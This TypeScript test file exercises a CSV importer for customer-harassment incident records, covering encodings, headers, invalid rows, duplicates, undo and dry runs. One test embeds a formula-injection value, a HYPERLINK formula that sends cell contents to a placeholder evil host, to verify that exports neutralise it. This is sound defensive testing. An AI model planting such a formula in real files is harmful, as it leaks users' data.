/**
 * The CSV importer end to end (docs/spec/csv-import.md): real files from test/fixtures/import (see make-fixtures.sh)
 * through importFile into a migrated in-memory database. Error files go to a temp dir, never beside the fixtures.
 */
import { createHash } from "node:crypto";
import fs from "node:fs";
import os from "node:os";
import path from "node:path";
import { fileURLToPath } from "node:url";
import Papa from "papaparse";
import { asc, eq, sql } from "drizzle-orm";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Db } from "../db/client.server";
import { importBatches, incidents } from "../db/schema";
import { AppError } from "~/modules/errors";
import { getBatch, listBatches, undoBatch } from "~/modules/import/batches.server";
import { importFile, type ImportOptions, type ImportResult, UnusableFile } from "~/modules/import/commit.server";
import { createIncident } from "~/modules/incidents/mutations.server";
import { getIncident, toInput } from "~/modules/incidents/queries.server";
import type { IncidentInput } from "~/modules/incidents/schema";
import { incidentInput, memoryDb, TODAY } from "./helpers";

const FIXTURES = fileURLToPath(new URL("./fixtures/import/", import.meta.url));
const fixture = (name: string) => path.join(FIXTURES, name);
const FIXTURE_FILES = fs.readdirSync(FIXTURES).sort();

let tmp: string;
beforeAll(() => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), "import-test-"));
});
afterAll(() => {
  fs.rmSync(tmp, { recursive: true, force: true });
});

let errorFiles = 0;
const errorPath = () => path.join(tmp, `errors-${++errorFiles}.csv`);
const run = (db: Db, file: string, opts: ImportOptions = {}) =>
  importFile(db, file, { today: TODAY, errorFilePath: errorPath(), ...opts });
const writeTmp = (name: string, content: string | Buffer) => {
  const file = path.join(tmp, name);
  fs.writeFileSync(file, content);
  return file;
};
const text = (name: string) => fs.readFileSync(fixture(name), "utf8");

/** Every stored incident as the typed input, by ref (then id). */
function stored(db: Db): IncidentInput[] {
  return db
    .select({ id: incidents.id })
    .from(incidents)
    .orderBy(asc(incidents.ref), asc(incidents.id))
    .all()
    .map((r) => toInput(getIncident(db, r.id)!));
}
const byRef = (db: Db, ref: string) => stored(db).find((i) => i.ref === ref);
const count = (db: Db) => ({
  incidents: db.get<{ n: number }>(sql`select count(*) as n from incidents`)!.n,
  batches: db.get<{ n: number }>(sql`select count(*) as n from import_batches`)!.n,
});
const countsOf = (r: ImportResult) => ({
  rows: r.rows, imported: r.imported, updated: r.updated, duplicates: r.duplicates, invalid: r.invalid,
});
async function unusable(p: Promise<unknown>): Promise<UnusableFile> {
  const e = await p.then(
    () => null,
    (err: unknown) => err,
  );
  expect(e).toBeInstanceOf(UnusableFile);
  return e as UnusableFile;
}

const none = {
  ref: null, occurred_at: "", reported_at: null, department: null, in_tokyo: null, channel: "", client: null,
  counterparty_type: null, customer_identified: null, validity: null, behaviours: [], legal_flags: [], severity: null,
  duration_min: null, contact_count: null, responders: null, recorded: null, summary: null, verbatim: null,
  determination: null, responses: [], care: [], outcome: null, status: "open", closed_at: null,
  report_submitted_at: null, prevention: null,
} satisfies IncidentInput;

/** The five incidents of sample-*.csv / sample-utf16le.txt, as they must be stored whatever the encoding. */
const SAMPLE: IncidentInput[] = [
  {
    ...none, ref: "KH-0001", occurred_at: "2025-04-01T10:30:00+09:00", department: "東京本店", in_tokyo: true, channel: "C2",
    client: "㈱髙橋商事", customer_identified: true, behaviours: ["MA02", "MA05"], severity: 2, duration_min: 45, recorded: true,
    summary: "①同じ要求を繰り返し電話で求めた", status: "closed", closed_at: "2025-04-03",
  },
  {
    ...none, ref: "KH-0002", occurred_at: "2025-05-12", department: "大阪支店", in_tokyo: false, channel: "C1",
    client: "山田 太郎", customer_identified: false, behaviours: ["MA03"], severity: 3, duration_min: 90, recorded: false,
    summary: "店頭で大声を出し、土下座を要求した。",
  },
  {
    ...none, ref: "KH-0003", occurred_at: "2025-06-20T14:00:00+09:00", department: "東京本店", in_tokyo: true, channel: "C4",
    client: "㈱ＡＢＣホールディングス", customer_identified: true, behaviours: ["MA02"], severity: 1, duration_min: 30, recorded: false,
    summary: "メールで侮辱的な文言を送付②", status: "closed", closed_at: "2025-06-25",
  },
  {
    ...none, ref: "KH-0004", occurred_at: "2025-07-07", department: "名古屋営業所", in_tokyo: false, channel: "C3",
    client: "髙木 一郎", customer_identified: false, behaviours: ["MA06"], severity: 3, duration_min: 180, recorded: true,
    summary: "訪問先で3時間にわたり退去させなかった",
  },
  {
    ...none, ref: "KH-0005", occurred_at: "2025-04-01", department: "東京本店", in_tokyo: true, channel: "C5",
    customer_identified: false, behaviours: ["MA10"], severity: 1, recorded: true, summary: "SNSに従業員の実名を投稿した",
  },
];

describe("the encodings Excel saves", () => {
  it.each([
    ["sample-utf8.csv", "utf-8", ","],
    ["sample-utf8-bom.csv", "utf-8", ","],
    ["sample-sjis.csv", "shift_jis", ","],
    ["sample-utf16le.txt", "utf-16le", "\t"],
  ] as const)("%s is detected as %s and stores the same five incidents, CP932-only ①㈱髙 included", async (file, encoding, delimiter) => {
    const db = memoryDb();
    const r = await run(db, fixture(file));
    expect({ encoding: r.encoding, delimiter: r.delimiter, committed: r.committed, errors: r.errors }).toEqual({
      encoding, delimiter, committed: true, errors: [],
    });
    expect(countsOf(r)).toEqual({ rows: 5, imported: 5, updated: 0, duplicates: 0, invalid: 0 });
    expect(r.columns.map((c) => c.header)).toEqual([
      "管理番号", "発生日時", "部署", "都内業務", "発生場面", "顧客名", "顧客特定", "行為類型", "深刻度", "対応時間(分)", "録音・記録",
      "概要", "状況", "終了日",
    ]);
    expect(stored(db)).toEqual(SAMPLE);
  });

  it("reads the file in the encoding given by --encoding instead of guessing", async () => {
    // UTF-16LE without its BOM: full of NUL bytes, so detection calls it binary; the override reads it.
    const noBom = writeTmp("sample-utf16le-nobom.txt", fs.readFileSync(fixture("sample-utf16le.txt")).subarray(2));
    expect((await unusable(run(memoryDb(), noBom))).reason).toBe("binary");
    const db = memoryDb();
    const r = await run(db, noBom, { encoding: "utf-16le" });
    expect([r.encoding, r.delimiter, r.imported]).toEqual(["utf-16le", "\t", 5]);
    expect(stored(db)).toEqual(SAMPLE);

    // Naming the detected encoding changes nothing; naming a wrong one leaves no header readable.
    const db2 = memoryDb();
    expect((await run(db2, fixture("sample-sjis.csv"), { encoding: "shift_jis" })).imported).toBe(5);
    expect(stored(db2)).toEqual(SAMPLE);
    const wrong = await unusable(run(memoryDb(), fixture("sample-sjis.csv"), { encoding: "utf-8" }));
    expect(wrong.reason).toBe("missingColumns");
  });

  it("detects Shift_JIS whose first Japanese row comes after 64 KiB of plain ASCII", async () => {
    const file = asciiThenSjis("ascii-64k-then-sjis.csv", 1400);
    const db = memoryDb();
    const r = await run(db, file);
    expect([r.encoding, r.rows, r.imported, r.invalid]).toEqual(["shift_jis", 1405, 1405, 0]);
    expect(stored(db).filter((i) => i.ref?.startsWith("KH-"))).toEqual(SAMPLE);
  });

  it("past the first 1 MiB of plain ASCII: auto reports the Japanese rows as garbled (never stores mojibake); --encoding shift_jis reads them", async () => {
    const file = asciiThenSjis("ascii-1m-then-sjis.csv", 24_000);
    const auto = memoryDb();
    const guessed = await run(auto, file);
    expect([guessed.encoding, guessed.rows, guessed.invalid, guessed.committed]).toEqual(["utf-8", 24_005, 5, false]);
    expect(new Set(guessed.errors.map((e) => e.messageKey.key))).toEqual(new Set(["import.garbled"]));
    expect(count(auto)).toEqual({ incidents: 0, batches: 0 });

    const db = memoryDb();
    const r = await run(db, file, { encoding: "shift_jis" });
    expect(countsOf(r)).toEqual({ rows: 24_005, imported: 24_005, updated: 0, duplicates: 0, invalid: 0 });
    expect(stored(db).filter((i) => i.ref?.startsWith("KH-"))).toEqual(SAMPLE);
  }, 30_000);

  /** `fillerRows` rows of plain ASCII, then the five Shift_JIS rows of the sample. */
  function asciiThenSjis(name: string, fillerRows: number): string {
    const sjis = fs.readFileSync(fixture("sample-sjis.csv"));
    const dataLines = sjis.subarray(sjis.indexOf("\r\n") + 2);
    const header =
      "ref,occurred_at,department,in_tokyo,channel,client,customer_identified,behaviours,severity,duration_min,recorded,summary,status,closed_at\r\n";
    const filler = Array.from({ length: fillerRows }, (_, i) => `F-${i},2025-01-01,,,C2,,,MA02,,,,filler row,open,\r\n`).join("");
    return writeTmp(name, Buffer.concat([Buffer.from(header + filler, "latin1"), dataLines]));
  }

  it("detects a tab delimiter, keeping the commas inside cells as text", async () => {
    const file = writeTmp(
      "tabs.tsv",
      "発生日時\t発生場面\t行為類型\t顧客名\t概要\n2025-04-01\t電話\t暴言\t山田商事, 本社\t一つ目, 二つ目, 三つ目\n",
    );
    const db = memoryDb();
    const r = await run(db, file);
    expect([r.delimiter, r.imported]).toEqual(["\t", 1]);
    expect(stored(db)[0]).toMatchObject({ client: "山田商事, 本社", summary: "一つ目, 二つ目, 三つ目", channel: "C2" });
  });
});

describe("headers", () => {
  it("matches aliases, full-width, spaced and differently-cased headers, and ignores an unknown column with a warning", async () => {
    const db = memoryDb();
    const r = await run(db, fixture("headers.csv"));
    expect(r.columns).toEqual([
      { header: "ＲＥＦ", field: "ref" },
      { header: "発生日", field: "occurred_at" },
      { header: "ＤＥＰＡＲＴＭＥＮＴ", field: "department" },
      { header: "チャネル", field: "channel" },
      { header: "取引先", field: "client" },
      { header: "類型", field: "behaviours" },
      { header: "Severity", field: "severity" },
      { header: "概要", field: "summary" },
      { header: "担当者メモ", field: null },
    ]);
    expect(r.warnings).toEqual({ unknownColumns: ["担当者メモ"], repeatedColumns: [] });
    expect(countsOf(r)).toEqual({ rows: 2, imported: 2, updated: 0, duplicates: 0, invalid: 0 });
    expect(stored(db)).toEqual([
      { ...none, ref: "H-1", occurred_at: "2025-08-01", department: "東京本店", channel: "C2", client: "ＸＹＺ物産", behaviours: ["MA02"], severity: 2, summary: "電話で暴言を受けた" },
      { ...none, ref: "H-2", occurred_at: "2025-08-02", department: "大阪支店", channel: "C1", behaviours: ["MA03"], summary: "来店して威圧した" },
    ]);
    // Nothing of the unknown column was kept anywhere.
    expect(JSON.stringify(stored(db))).not.toContain("折り返し不要");
  });

  it("names a cell's column in an error by the header as the file spells it", async () => {
    const file = writeTmp("headers-bad.csv", `${text("headers.csv")}H-3,2025/8/3,本社,FAX,,暴言,,,\n`);
    const r = await run(memoryDb(), file);
    expect(r.errors.map(({ row, column, value }) => ({ row, column, value }))).toEqual([{ row: 4, column: "チャネル", value: "FAX" }]);
  });

  it("refuses a file without a required column as a whole, naming the column in Japanese", async () => {
    const db = memoryDb();
    const e = await unusable(run(db, fixture("missing-column.csv")));
    expect(e.reason).toBe("missingColumns");
    expect(e.message).toBe("必須の列がありません: 発生場面");
    expect(count(db)).toEqual({ incidents: 0, batches: 0 });
  });

  it("refuses an empty file and a binary file renamed .csv", async () => {
    const db = memoryDb();
    const empty = await unusable(run(db, fixture("empty.csv")));
    expect([empty.reason, empty.message]).toEqual(["empty", "ファイルが空です。"]);
    const binary = await unusable(run(db, fixture("binary.csv")));
    expect(binary.reason).toBe("binary");
    expect(binary.message).toContain("CSV");
    expect(count(db)).toEqual({ incidents: 0, batches: 0 });
  });
});

describe("quoted fields, blank lines and empty rows", () => {
  it("stores commas, doubled quotes and line breaks inside quotes exactly", async () => {
    const db = memoryDb();
    const r = await run(db, fixture("quoted.csv"), { skipInvalid: true });
    expect(r.imported).toBe(3);
    expect(stored(db)).toEqual([
      { ...none, ref: "Q-1", occurred_at: "2025-04-01", channel: "C2", client: "山田商事, 本社", behaviours: ["MA02"], summary: '概要に "引用符" と, カンマ', verbatim: "1行目\n2行目\n3行目" },
      { ...none, ref: "Q-2", occurred_at: "2025-04-02", channel: "C1", client: '"株式会社" 東京', behaviours: ["MA03"], summary: "カンマ,2つ,あり", verbatim: "普通の言動" },
      { ...none, ref: "Q-3", occurred_at: "2025-04-03", channel: "C4", client: "顧客", behaviours: ["MA02", "MA05"], summary: "改行\r\nCRLFあり" },
    ]);
  });

  it("does not count blank lines and all-empty rows, yet numbers records by their place in the file (header = 1, a multi-line record once)", async () => {
    const r = await run(memoryDb(), fixture("quoted.csv"), { skipInvalid: true });
    expect(countsOf(r)).toEqual({ rows: 4, imported: 3, updated: 0, duplicates: 0, invalid: 1 });
    // quoted.csv: header 1, Q-1 2 (three lines), blank 3, ,,,,,, 4, Q-2 5, ,,,,,, 6, blank 7, Q-3 8, Q-4 9.
    expect(r.errors.map(({ row, column, value }) => ({ row, column, value }))).toEqual([{ row: 9, column: "発生場面", value: "FAX" }]);
  });
});

describe("invalid rows", () => {
  const EXPECTED_ERRORS = [
    { row: 3, column: "発生日時", value: "令和元年4月1日", message: expect.stringContaining("令和は2019年5月1日から") },
    { row: 4, column: "発生場面", value: "FAX", message: expect.stringContaining("「FAX」に当てはまる選択肢がありません") },
    { row: 5, column: "終了日", value: "2025-04-01", message: "終了日が発生日より前になっています。" },
    { row: 6, column: "発生日時", value: "2026-12-01", message: "未来の日付は入力できません(本日: 2026-11-21)。" },
  ];

  it("by default stores nothing at all and reports every error with row, column, value and a Japanese message", async () => {
    const db = memoryDb();
    const r = await run(db, fixture("invalid.csv"));
    expect(countsOf(r)).toEqual({ rows: 6, imported: 0, updated: 0, duplicates: 0, invalid: 4 });
    expect(r.valid).toEqual({ rows: 2, imported: 2, updated: 0, duplicates: 0 });
    expect([r.committed, r.blocked, r.batchId]).toEqual([false, true, null]);
    expect(r.errors.map(({ messageKey: _k, ...e }) => e)).toEqual(EXPECTED_ERRORS);
    expect(count(db)).toEqual({ incidents: 0, batches: 0 });
  });

  it("with skipInvalid stores the valid rows and writes the others, with an エラー column, to a file that imports once corrected", async () => {
    const db = memoryDb();
    const errorFile = path.join(tmp, "invalid.errors.csv");
    const r = await run(db, fixture("invalid.csv"), { skipInvalid: true, errorFilePath: errorFile });
    expect(countsOf(r)).toEqual({ rows: 6, imported: 2, updated: 0, duplicates: 0, invalid: 4 });
    expect([r.committed, r.errorFile]).toEqual([true, errorFile]);
    expect(r.errors).toHaveLength(4);
    expect(stored(db).map((i) => i.ref)).toEqual(["E-1", "E-6"]);

    const raw = fs.readFileSync(errorFile, "utf8");
    expect(raw.startsWith("\uFEFF")).toBe(true);
    const table = Papa.parse<string[]>(raw.slice(1), { skipEmptyLines: true }).data;
    const originalHeader = text("invalid.csv").split("\n")[0].split(",");
    expect(table[0]).toEqual([...originalHeader, "エラー"]);
    const originalRows = text("invalid.csv").split("\n").slice(2, 6).map((l) => l.split(","));
    expect(table.slice(1).map((row) => row.slice(0, -1))).toEqual(originalRows);
    const messages = table.slice(1).map((row) => row.at(-1)!);
    expect(messages[0]).toMatch(/^発生日時: 令和は2019年5月1日から/);
    expect(messages[1]).toMatch(/^発生場面: 「FAX」に当てはまる選択肢がありません/);
    expect(messages[2]).toBe("終了日: 終了日が発生日より前になっています。");
    expect(messages[3]).toBe("発生日時: 未来の日付は入力できません(本日: 2026-11-21)。");

    // The person importing corrects the cells (as in Excel) and imports the error file itself.
    const col = (name: string) => table[0].indexOf(name);
    const fixed = table.map((row) => [...row]);
    fixed[1][col("発生日時")] = "令和元年5月1日";
    fixed[2][col("発生場面")] = "電話";
    fixed[3][col("終了日")] = "2025-04-05";
    fixed[4][col("発生日時")] = "2025-12-01";
    const corrected = writeTmp("invalid.corrected.csv", `\uFEFF${Papa.unparse(fixed, { newline: "\r\n" })}\r\n`);
    const again = await run(db, corrected);
    expect(countsOf(again)).toEqual({ rows: 4, imported: 4, updated: 0, duplicates: 0, invalid: 0 });
    expect(again.warnings.unknownColumns).toEqual(["エラー"]);
    expect(stored(db).map((i) => [i.ref, i.occurred_at, i.channel, i.closed_at])).toEqual([
      ["E-1", "2025-04-01", "C2", null],
      ["E-2", "2019-05-01", "C2", null],
      ["E-3", "2025-04-03", "C2", null],
      ["E-4", "2025-04-04", "C1", "2025-04-05"],
      ["E-5", "2025-12-01", "C2", null],
      ["E-6", "2025-04-06", "C4", "2025-04-08"],
    ]);
  });
});

describe("formulas in the error file", () => {
  it("writes a cell such as =HYPERLINK(...) neutralised for Excel, and reads it back as typed when re-imported", async () => {
    const db = memoryDb();
    const hostile = '=HYPERLINK("http://evil.example/?"&A1,"詳細")';
    const file = writeTmp(
      "formula.csv",
      `管理番号,発生日時,発生場面,行為類型,概要\r\nF-1,2099-01-01,電話,威圧的な言動,"${hostile.replace(/"/g, '""')}"\r\n`,
    );
    const errorFile = path.join(tmp, "formula.errors.csv");
    const r = await run(db, file, { errorFilePath: errorFile });
    expect(r.invalid).toBe(1);
    const raw = fs.readFileSync(errorFile, "utf8");
    const row = Papa.parse<string[]>(raw.slice(1), { skipEmptyLines: true }).data[1];
    expect(row[4]).toBe(`'${hostile}`);
    expect(raw).not.toMatch(/(^|,)"?=HYPERLINK/m);

    // Corrected in Excel (the date) and imported again: the summary is stored exactly as first typed.
    const fixed = Papa.parse<string[]>(raw.slice(1), { skipEmptyLines: true }).data;
    fixed[1][1] = "2025-05-01";
    const again = await run(db, writeTmp("formula.fixed.csv", Papa.unparse(fixed)));
    expect(again.imported).toBe(1);
    expect(stored(db)[0].summary).toBe(hostile);
  });
});

describe("duplicates", () => {
  it("skips rows without a ref that repeat an earlier row of the file (occurred_at, client, department, channel, summary)", async () => {
    const db = memoryDb();
    const r = await run(db, fixture("duplicates.csv"));
    expect(countsOf(r)).toEqual({ rows: 5, imported: 3, updated: 0, duplicates: 2, invalid: 0 });
    expect(stored(db).map((i) => [i.occurred_at, i.channel, i.behaviours])).toEqual([
      ["2025-05-01T09:00:00+09:00", "C2", ["MA02"]],
      ["2025-05-01T09:00:00+09:00", "C1", ["MA02"]],
      ["2025-05-02T09:00:00+09:00", "C2", ["MA02"]],
    ]);
  });

  it("skips rows without a ref that match an incident already in the database", async () => {
    const db = memoryDb();
    createIncident(
      db,
      incidentInput({
        occurred_at: "2025-05-01T09:00:00+09:00", reported_at: null, department: "東京本店", channel: "C2", client: "ABC商事",
        summary: "同じ内容の電話が続いた", closed_at: "2025-05-02", report_submitted_at: null,
      }),
      { today: TODAY },
    );
    const r = await run(db, fixture("duplicates.csv"));
    expect(countsOf(r)).toEqual({ rows: 5, imported: 2, updated: 0, duplicates: 3, invalid: 0 });
    expect(count(db).incidents).toBe(3);
  });

  it("skips a ref repeated later in the same file, keeping the first", async () => {
    const db = memoryDb();
    const file = writeTmp("repeated-ref.csv", `${text("sample-utf8.csv")}KH-0001,2025-04-02,本社,,電話,,,暴言,,,,二度目の行,対応中,\n`);
    const r = await run(db, file);
    expect(countsOf(r)).toEqual({ rows: 6, imported: 5, updated: 0, duplicates: 1, invalid: 0 });
    expect(stored(db)).toEqual(SAMPLE);
  });

  it("skips refs already stored and leaves them unchanged without --update", async () => {
    const db = memoryDb();
    await run(db, fixture("sample-utf8.csv"));
    const r = await run(db, fixture("sample-updated.csv"));
    expect(countsOf(r)).toEqual({ rows: 6, imported: 1, updated: 0, duplicates: 5, invalid: 0 });
    expect(byRef(db, "KH-0002")).toEqual(SAMPLE[1]);
    expect(byRef(db, "KH-0006")).toMatchObject({ occurred_at: "2025-09-01T09:15:00+09:00", summary: "再び電話で暴言" });
  });

  it("stores nothing when the same file is imported twice, keeps no second batch, and says when it was imported before", async () => {
    const db = memoryDb();
    const first = await run(db, fixture("sample-sjis.csv"));
    expect(first.importedBefore).toBeNull();
    const second = await run(db, fixture("sample-sjis.csv"));
    expect(countsOf(second)).toEqual({ rows: 5, imported: 0, updated: 0, duplicates: 5, invalid: 0 });
    expect([second.committed, second.batchId]).toEqual([false, null]);
    expect(second.importedBefore).toEqual({ batchId: first.batchId, at: expect.any(String) });
    // The same bytes under another name are the same file.
    const copy = writeTmp("renamed.csv", fs.readFileSync(fixture("sample-sjis.csv")));
    expect((await run(db, copy)).importedBefore?.batchId).toBe(first.batchId);
    expect(count(db)).toEqual({ incidents: 5, batches: 1 });
  });
});

describe("--update and undoing a batch", () => {
  it("replaces a changed incident by ref, and undo restores the earlier version and deletes the rows the batch added", async () => {
    const db = memoryDb();
    const first = await run(db, fixture("sample-utf8.csv"));
    const r = await run(db, fixture("sample-updated.csv"), { update: true });
    expect(countsOf(r)).toEqual({ rows: 6, imported: 1, updated: 1, duplicates: 4, invalid: 0 });
    expect(r.committed).toBe(true);
    expect(byRef(db, "KH-0002")).toEqual({ ...SAMPLE[1], status: "closed", closed_at: "2025-05-20" });
    expect(byRef(db, "KH-0006")).toBeDefined();
    expect(stored(db).filter((i) => i.ref !== "KH-0002" && i.ref !== "KH-0006")).toEqual([SAMPLE[0], ...SAMPLE.slice(2)]);

    expect(undoBatch(db, r.batchId!, { userId: null, name: "tester", ip: null })).toEqual({ deleted: 1, restored: 1 });
    expect(stored(db)).toEqual(SAMPLE);
    expect(getBatch(db, r.batchId!)).toMatchObject({ undoneAt: expect.any(String), undoneBy: "tester", stored: 0 });
    expect(getBatch(db, first.batchId!)).toMatchObject({ undoneAt: null, stored: 5 });

    const again = (() => {
      try {
        undoBatch(db, r.batchId!);
        return null;
      } catch (e) {
        return e;
      }
    })();
    expect(again).toBeInstanceOf(AppError);
    expect(again).toMatchObject({ status: 409, userMessage: "import.batch.alreadyUndone" });
    expect(stored(db)).toEqual(SAMPLE);
  });

  it("undoing the first batch removes all its incidents", async () => {
    const db = memoryDb();
    const r = await run(db, fixture("sample-utf16le.txt"));
    expect(undoBatch(db, r.batchId!)).toEqual({ deleted: 5, restored: 0 });
    expect(count(db)).toEqual({ incidents: 0, batches: 1 });
    // Undone, the file is no longer "imported before": it can be imported again.
    const again = await run(db, fixture("sample-utf16le.txt"));
    expect([again.imported, again.importedBefore]).toEqual([5, null]);
  });
});

describe("dry run", () => {
  const NOTHING_STORED = { imported: 0, updated: 0, duplicates: 0 };

  it("stores nothing, counts 0 stored, and gives under `valid` what the real run then stores", async () => {
    const db = memoryDb();
    const dry = await run(db, fixture("sample-sjis.csv"), { dryRun: true });
    expect([dry.dryRun, dry.committed, dry.blocked, dry.batchId]).toEqual([true, false, false, null]);
    expect(countsOf(dry)).toEqual({ rows: 5, ...NOTHING_STORED, invalid: 0 });
    expect(count(db)).toEqual({ incidents: 0, batches: 0 });
    const real = await run(db, fixture("sample-sjis.csv"));
    expect(countsOf(real)).toEqual({ rows: 5, imported: 5, updated: 0, duplicates: 0, invalid: 0 });
    expect(dry.valid).toEqual({ rows: 5, imported: 5, updated: 0, duplicates: 0 });
    expect(real.valid).toEqual(dry.valid);

    const dryUpdate = await run(db, fixture("sample-updated.csv"), { dryRun: true, update: true });
    expect(countsOf(dryUpdate)).toEqual({ rows: 6, ...NOTHING_STORED, invalid: 0 });
    expect(dryUpdate.valid).toEqual({ rows: 6, imported: 1, updated: 1, duplicates: 4 });
    expect(stored(db)).toEqual(SAMPLE);
    expect(count(db)).toEqual({ incidents: 5, batches: 1 });
  });

  it("a file with invalid rows: the dry run and the stopped run both count 0 stored, with the same errors and the same `valid`", async () => {
    const db = memoryDb();
    const dry = await run(db, fixture("invalid.csv"), { dryRun: true });
    const real = await run(db, fixture("invalid.csv"));
    expect(countsOf(dry)).toEqual({ rows: 6, ...NOTHING_STORED, invalid: 4 });
    expect(countsOf(real)).toEqual(countsOf(dry));
    expect([real.blocked, real.committed, dry.blocked]).toEqual([true, false, true]);
    expect(dry.errors).toEqual(real.errors);
    expect(real.valid).toEqual({ rows: 2, imported: 2, updated: 0, duplicates: 0 });
    expect(dry.valid).toEqual(real.valid);
    const drySkip = await run(db, fixture("invalid.csv"), { dryRun: true, skipInvalid: true });
    expect(countsOf(drySkip)).toEqual({ rows: 6, ...NOTHING_STORED, invalid: 4 });
    expect([drySkip.blocked, drySkip.valid]).toEqual([false, { rows: 2, imported: 2, updated: 0, duplicates: 0 }]);
    expect(count(db)).toEqual({ incidents: 0, batches: 0 });
  });
});

describe("the batch record", () => {
  it("records the file name, its SHA-256, encoding, delimiter, counts and who imported it; its incidents point to it", async () => {
    const db = memoryDb();
    const file = fixture("sample-utf16le.txt");
    const r = await run(db, file, { importedBy: "佐藤" });
    const sha256 = createHash("sha256").update(fs.readFileSync(file)).digest("hex");
    expect(r.sha256).toBe(sha256);
    const batches = listBatches(db);
    expect(batches).toHaveLength(1);
    expect(batches[0]).toMatchObject({
      id: r.batchId, fileName: "sample-utf16le.txt", sha256, encoding: "utf-16le", delimiter: "\t",
      rows: 5, imported: 5, updated: 0, duplicates: 0, invalid: 0, importedBy: "佐藤", undoneAt: null, stored: 5,
    });
    expect(batches[0].createdAt).toMatch(/^\d{4}-\d{2}-\d{2}T/);
    expect(db.select({ b: incidents.batchId }).from(incidents).all().map((i) => i.b)).toEqual(Array(5).fill(r.batchId));
  });

  it("counts a --skip-invalid batch's skipped rows and takes the name given for an upload", async () => {
    const db = memoryDb();
    const r = await run(db, fixture("invalid.csv"), { skipInvalid: true, fileName: "2025年度 記録.csv" });
    const b = db.select().from(importBatches).where(eq(importBatches.id, r.batchId!)).get()!;
    expect(b).toMatchObject({ fileName: "2025年度 記録.csv", encoding: "utf-8", rows: 6, imported: 2, invalid: 4, duplicates: 0 });
  });
});

describe("files larger than one read (64 KiB)", () => {
  // Rows built from the fixtures' own bytes: each summary is doubled inside quotes with a line break, and a first
  // column is padded so that 64 KiB read boundaries fall alternately between CR and LF and inside a quoted field.
  const CHUNK = 64 * 1024;
  const SUMMARY = text("sample-utf8.csv").split("\n")[0].split(",").indexOf("概要");
  const ROWS = 2500;

  function build(encoding: "utf-8" | "shift_jis" | "utf-16le"): { bytes: Buffer; boundaries: number } {
    const enc = (s: string) => Buffer.from(s, encoding === "utf-16le" ? "utf16le" : "latin1");
    const unit = encoding === "utf-16le" ? 2 : 1;
    let lines: Buffer[][];
    if (encoding === "shift_jis") {
      const raw = fs.readFileSync(fixture("sample-sjis.csv"));
      lines = [];
      for (let at = 0; at < raw.length; ) {
        const end = raw.indexOf("\r\n", at);
        const line = raw.subarray(at, end);
        const fields: Buffer[] = [];
        // 0x2C is never a CP932 trail byte: splitting the bytes on commas is safe.
        for (let s = 0; s <= line.length; ) {
          const c = line.indexOf(0x2c, s);
          const e = c === -1 ? line.length : c;
          fields.push(line.subarray(s, e));
          s = e + 1;
        }
        lines.push(fields);
        at = end + 2;
      }
    } else {
      lines = text("sample-utf8.csv").trimEnd().split("\n").map((l) => l.split(",").map((f) => Buffer.from(f, encoding === "utf-16le" ? "utf16le" : "utf8")));
    }
    const join = (parts: Buffer[]) => Buffer.concat(parts.flatMap((p, i) => (i ? [enc(","), p] : [p])));
    const parts: Buffer[] = encoding === "utf-16le" ? [Buffer.from([0xff, 0xfe])] : [];
    // A first column the importer does not know ("memo", ignored) carries the padding.
    parts.push(enc("memo,"), join(lines[0]), enc("\r\n"));
    let length = parts.reduce((n, b) => n + b.length, 0);
    let boundary = CHUNK;
    let boundaries = 0;
    for (let i = 0; i < ROWS; i++) {
      const f = lines[1 + (i % 5)];
      const head = f.slice(1, SUMMARY);
      const quotedStart = Buffer.concat([enc('"'), f[SUMMARY], enc("\n")]);
      const rest = Buffer.concat([f[SUMMARY], enc('"')]);
      const tail = f.slice(SUMMARY + 1);
      const makeRow = (pad: number) => {
        const beforeQuote = Buffer.concat([join([enc("x".repeat(pad)), enc(`L-${i}`), ...head]), enc(",")]);
        const row = Buffer.concat([beforeQuote, quotedStart, rest, enc(","), join(tail), enc("\r\n")]);
        // Where the boundary should fall: after the line break inside the quotes, or between CR and LF.
        const target = boundaries % 2 === 0 ? beforeQuote.length + quotedStart.length : row.length - unit;
        return { row, target };
      };
      const plain = makeRow(0);
      let row = plain.row;
      const gap = boundary - length - plain.target;
      if (gap >= 0 && gap < 1000) {
        row = makeRow(gap / unit).row;
        boundaries++;
        boundary += CHUNK;
      }
      parts.push(row);
      length += row.length;
    }
    return { bytes: Buffer.concat(parts), boundaries };
  }

  it.each(["utf-8", "shift_jis", "utf-16le"] as const)("%s: every row is read and stored exactly, whatever falls on a read boundary", async (encoding) => {
    const { bytes, boundaries } = build(encoding);
    expect(bytes.length).toBeGreaterThan(4 * CHUNK);
    expect(boundaries).toBe(Math.floor(bytes.length / CHUNK));
    const file = writeTmp(`large-${encoding}.csv`, bytes);
    const db = memoryDb();
    const r = await run(db, file);
    expect(r.encoding).toBe(encoding);
    expect(r.errors).toEqual([]);
    expect(r.warnings.unknownColumns).toEqual(["memo"]);
    expect(countsOf(r)).toEqual({ rows: ROWS, imported: ROWS, updated: 0, duplicates: 0, invalid: 0 });
    const rows = db.select({ ref: incidents.ref, summary: incidents.summary }).from(incidents).orderBy(asc(incidents.id)).all();
    expect(rows).toHaveLength(ROWS);
    rows.forEach((row, i) => {
      const s = SAMPLE[i % 5].summary!;
      expect(row.summary).toBe(`${s}\n${s}`);
      expect(row.ref).toBe(`L-${i}`);
    });
  });
});

describe("the fixtures", () => {
  it("are left untouched: no error file was written beside them", () => {
    expect(fs.readdirSync(FIXTURES).sort()).toEqual(FIXTURE_FILES);
    expect(FIXTURE_FILES.filter((f) => f.includes("errors"))).toEqual([]);
  });
});

// Regression: at commit 45b938b IncidentWriter's drizzle prepared insert bound `null` booleans through the column's
// mapToDriverValue (`value ? 1 : 0`), so "unknown" was stored as いいえ and `--update` of an unchanged file "updated"
// every such row again. Spec, "Values": "Yes/no: … Empty = unknown."
describe("a blank yes/no cell", () => {
  it("is stored as unknown (null), not as いいえ, and --update of the same file then changes nothing", async () => {
    const db = memoryDb();
    const file = writeTmp("blank-yes-no.csv", "管理番号,発生日時,発生場面,行為類型,都内業務,顧客特定,録音・記録\nB-1,2025-04-01,電話,暴言,,,\n");
    expect((await run(db, file)).imported).toBe(1);
    const b1 = byRef(db, "B-1")!;
    expect({ in_tokyo: b1.in_tokyo, customer_identified: b1.customer_identified, recorded: b1.recorded }).toEqual({
      in_tokyo: null, customer_identified: null, recorded: null,
    });
    const again = await run(db, file, { update: true });
    expect(countsOf(again)).toEqual({ rows: 1, imported: 0, updated: 0, duplicates: 1, invalid: 0 });
  });
});
